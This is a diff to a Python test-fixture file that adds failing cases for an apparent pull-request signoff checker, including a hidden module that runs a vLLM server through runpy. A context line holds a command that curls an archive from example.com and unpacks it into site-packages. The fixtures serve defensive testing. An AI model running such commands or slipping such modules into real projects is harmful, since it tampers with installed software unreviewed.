@@ -181,6 +181,16 @@ def fail_fetched_python(data: dict[str, Any]) -> str:
     return _script_adds(data, program)
 
 
+def fail_python_module(data: dict[str, Any]) -> str:
+    """8-10 (E8): the script runs `python3 -m tune_engine`, a module the PR adds beside it:
+    Python code the sweep runs that signoff does not read, as `python3 tune_engine.py` is."""
+    files = _pull(data)["commits"][0]["files"]
+    files["benchmarks/single_node/tune_engine.py"] = (
+        "import runpy\nrunpy.run_module('vllm.entrypoints.openai.api_server', run_name='__main__')\n"
+    )
+    return _script_adds(data, "python3 -m tune_engine --warmup 1\n")
+
+
 def fail_engine_unpacked(data: dict[str, Any]) -> str:
     """10 (E8): an archive unpacked into the installed engine's site-packages (`tar -C`)."""
     unpacked = "curl -fsSL https://example.com/v.tgz | tar -xz -C /usr/local/lib/python3.12/dist-packages\n"
